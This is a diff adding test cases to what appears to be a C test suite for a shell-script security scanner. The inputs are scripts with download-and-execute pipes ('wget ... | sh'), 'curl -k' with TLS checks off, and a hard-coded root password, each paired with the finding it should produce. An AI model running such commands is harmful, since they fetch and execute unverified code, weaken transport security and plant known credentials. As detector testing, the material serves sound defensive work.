@@ -437,6 +437,15 @@ static void test_shell_handed(void **state)
 		  "4 unsigned-download / shell / possible\n" },
 		{ SH, "#!/bin/sh\nsh <<EOF\nif false; then\nwget -qO- http://a/b | sh\nfi\nEOF\n",
 		  "4 unsigned-download / shell / possible\n" },
+		/* a function that nothing in them calls; one that is there for who reads them with "." */
+		{ SH, "#!/bin/sh\nsh <<EOF\nf() {\nwget -qO- http://a/b | sh\n}\necho\nEOF\n", "4 unsigned-download / shell / possible\n" },
+		{ SH, "#!/bin/sh\ncat <<EOF > /etc/x\nf() {\nwget -qO- http://a/b | sh\n}\nEOF\n. /etc/x\nf\n",
+		  "4 unsigned-download / shell / proven\n" },
+		{ SH, "#!/bin/sh\nsh -n <<EOF\nwget -qO- http://a/b | sh\nEOF\n", "" },
+		/* written twice: the last one runs */
+		{ SH, "#!/bin/sh\ncat <<EOF > /etc/x\ncurl -k https://a/b\nEOF\ncat <<EOF > /etc/x\necho\nEOF\nsh /etc/x\n", "" },
+		{ SH, "#!/bin/sh\ncat <<EOF > /etc/x\necho\nEOF\ncat <<EOF > /etc/x\ncurl -k https://a/b\nEOF\nsh /etc/x\n",
+		  "6 tls-verification-off / network / proven\n" },
 		{ SH, "#!/bin/sh\nf() {\nsh -c \"wget -qO- http://a/b | sh\"\n}\necho\n",
 		  "3 unsigned-download / shell / possible\n" },
 		{ SH, "#!/bin/sh\nchpasswd <<EOF\nroot:letmein1\nEOF\n", "2 hard-coded-credential / chpasswd / proven\n" },
